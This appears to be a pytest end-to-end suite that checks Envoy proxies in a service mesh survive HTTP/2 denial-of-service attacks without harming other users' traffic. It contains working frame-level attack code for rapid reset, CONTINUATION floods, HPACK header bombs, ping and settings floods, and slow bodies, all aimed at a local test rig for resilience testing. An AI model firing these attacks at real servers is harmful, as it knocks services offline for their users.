"""HTTP/2 used as a weapon: by strangers at an address of a service, by peers with a certificate.

While it lasts, others send 20 requests a second through the same Envoy: none fails, none is slow.
"""

import asyncio
import contextlib
import itertools
import ssl
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Sequence
from pathlib import Path

import pytest
from hyperframe.frame import (
    DataFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from federation.demo.layout import SERVICE_PORT, service_host
from federation.envoy.limits import STREAMS_PER_CONNECTION
from federation.verify import guarantees
from tests.e2e import http2, tls
from tests.e2e.documents import exports
from tests.e2e.http2 import Raw, request
from tests.e2e.rig import Mesh, finish, pause, wait_until

pytestmark = [pytest.mark.timeout(120), pytest.mark.alone]

SOURCE = "127.30.250.2"
HOST = service_host("api")
CONNECTIONS = 11
PAUSE_SECONDS = 0.05
SECONDS = 3.0
SLOWEST_SECONDS = 0.25
"""What ten times a quiet 99th percentile may be at the least: the machine has two cores."""

Attack = Callable[[Raw, Iterable[int]], Awaitable[None]]


async def rapid_resets(raw: Raw, streams: Iterable[int]) -> None:
    """Requests that are taken back at once (CVE-2023-44487)."""
    for stream in itertools.islice(streams, 100):
        raw.put(raw.head(stream, request(HOST)), RstStreamFrame(stream, 8))


async def resets_by_the_server(raw: Raw, streams: Iterable[int]) -> None:
    """Requests that force the server to take them back (CVE-2025-8671)."""
    for stream in itertools.islice(streams, 100):
        head = raw.head(stream, request(HOST, "/", "POST"), ends=False)
        raw.put(head, WindowUpdateFrame(stream, 1 << 30), WindowUpdateFrame(stream, 1 << 30))


async def settings(raw: Raw, _: Iterable[int]) -> None:
    raw.put(*(SettingsFrame(0, settings={4: 65_535 + n % 2}) for n in range(200)))


async def pings(raw: Raw, _: Iterable[int]) -> None:
    raw.put(*(PingFrame(0, struct.pack("!Q", n)) for n in range(200)))


async def empty_data(raw: Raw, streams: Iterable[int]) -> None:
    stream = next(iter(streams))
    raw.put(raw.head(stream, request(HOST, "/", "POST"), ends=False))
    raw.put(*(DataFrame(stream, b"") for _ in range(200)))


async def priorities(raw: Raw, streams: Iterable[int]) -> None:
    stream = next(iter(streams))
    raw.put(*(PriorityFrame(stream, depends_on=0, stream_weight=n % 255) for n in range(200)))


async def more_streams_than_allowed(raw: Raw, streams: Iterable[int]) -> None:
    for stream in itertools.islice(streams, 3 * STREAMS_PER_CONNECTION):
        raw.put(raw.head(stream, request(HOST, "/", "POST"), ends=False))
    await asyncio.sleep(0.2)


async def slow_bodies(raw: Raw, streams: Iterable[int]) -> None:
    """As many bodies as may come at a time, each byte by byte."""
    found = list(itertools.islice(streams, STREAMS_PER_CONNECTION - 1))
    raw.put(*(raw.head(s, request(HOST, "/", "POST"), ends=False) for s in found))
    for _ in range(5):
        raw.put(*(http2.data(stream, b"x") for stream in found))
        await raw.flush()
        await asyncio.sleep(0.3)


async def unknown_frames(raw: Raw, _: Iterable[int]) -> None:
    raw.writer.write(b"".join(_frame(0x42, 0, 0, bytes(64)) for _ in range(200)))


async def heads_that_do_not_end(raw: Raw, streams: Iterable[int]) -> None:
    """A HEADERS frame, then CONTINUATION for ever (CVE-2024-30255)."""
    stream = next(iter(streams))
    raw.writer.write(_frame(1, 0, stream, b"\x82\x86\x84"))
    raw.writer.write(b"".join(_frame(9, 0, stream, b"\x40\x01a\x01b" * 50) for _ in range(200)))


async def heads_that_unfold(raw: Raw, streams: Iterable[int]) -> None:
    """One large header in the dictionary, then thousands of references of a byte to it."""
    stream = next(iter(streams))
    first = b"\x82\x86\x84\x41\x01a\x40\x01b" + b"\x7f\x81\x1e" + b"v" * 3_968
    raw.writer.write(_frame(1, 4 | 1, stream, first + b"\xbe" * 12_000))


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return (
        struct.pack("!I", len(body))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + body
    )


# What Envoy ends the connection for. The rest it bears within its bounds.
CLOSED = frozenset({"rapid_resets", "resets_by_the_server", "empty_data", "heads_that_do_not_end"})
# They hold 100 requests open each, and every four of these need a handshake behind the proxy.
HOLDING = (more_streams_than_allowed, slow_bodies)

ATTACKS = (
    rapid_resets,
    resets_by_the_server,
    settings,
    pings,
    empty_data,
    priorities,
    more_streams_than_allowed,
    slow_bodies,
    unknown_frames,
    heads_that_do_not_end,
    heads_that_unfold,
)
EACH = pytest.mark.parametrize(
    "attacks",
    [ATTACKS, *(pytest.param((one,), marks=pytest.mark.slow) for one in ATTACKS)],
    ids=["all", *(one.__name__ for one in ATTACKS)],
)


async def attack_for(
    attacks: Sequence[Attack],
    address: str,
    *,
    context: ssl.SSLContext | None = None,
    server_name: str = "",
) -> Counter[str]:
    """Attack for a while by some connections; what is closed is opened again, and counted."""
    until = asyncio.get_running_loop().time() + SECONDS
    closed: Counter[str] = Counter()

    async def one(what: Attack) -> None:
        while asyncio.get_running_loop().time() < until:
            with contextlib.suppress(OSError):
                async with http2.connected(address, context, server_name, source=SOURCE) as raw:
                    streams = iter(range(1, 1 << 30, 2))
                    while raw.is_open and asyncio.get_running_loop().time() < until:
                        await what(raw, streams)
                        await raw.flush()
                        await asyncio.sleep(PAUSE_SECONDS)
                    closed[what.__name__] += not raw.is_open
            await asyncio.sleep(PAUSE_SECONDS)

    count = 2 if attacks[0] in HOLDING else CONNECTIONS
    await asyncio.gather(*(one(attacks[n % len(attacks)]) for n in range(count)))
    return closed


def judge(mesh: Mesh, folder: Path, service: str, attack: Callable[[], Counter[str]]) -> None:
    """Run an attack beside others' requests and hold what they are promised."""
    with mesh.traffic("us-east", folder, rate=20, service=service) as load:
        pause(1.0)
        began = time.monotonic()
        closed = attack()
        ended = time.monotonic()
        pause(0.5)
    during = [r for r in load.over.records if began <= r.start <= ended]
    calm = [r.latency for r in load.over.records if not began <= r.start <= ended]
    slow = guarantees.percentile([r.latency for r in during], 99)
    assert len(during) > 10 * SECONDS
    assert not guarantees.failures(load.over.records)
    assert slow < max(10 * guarantees.percentile(calm, 99), SLOWEST_SECONDS), closed
    for name, count in closed.items():
        assert count > 0 or name not in CLOSED, closed


@EACH
def test_a_stranger_at_an_address_of_a_service_harms_no_other(
    mesh: Mesh, tmp_path: Path, attacks: Sequence[Attack]
) -> None:
    """At the gateway of us-west, through which all others' requests go."""
    address = f"{mesh.entry('us-west', 'web')}:{SERVICE_PORT}"
    with mesh.edited("eu-west", "exports.yaml", exports("api", "web")):
        wait_until(
            "only us-west answers",
            lambda: {mesh.call("us-east", "orders")[1]["cluster"] for _ in range(8)} == {"us-west"},
            5,
        )
        judge(mesh, tmp_path, "orders", lambda: finish(attack_for(attacks, address)))


@EACH
def test_a_peer_with_a_certificate_at_a_sidecar_harms_no_other(
    mesh: Mesh, tmp_path: Path, attacks: Sequence[Attack]
) -> None:
    shown = tls.identity_of(mesh, "eu-west-web-1-sidecar")
    context = http2.client_context(shown, tmp_path)
    address = mesh.member("us-east-api-1-sidecar").address("inbound")

    def run() -> Counter[str]:
        work = attack_for(attacks, address, context=context, server_name=tls.PASSED_ON)
        return finish(work)

    judge(mesh, tmp_path, "api", run)
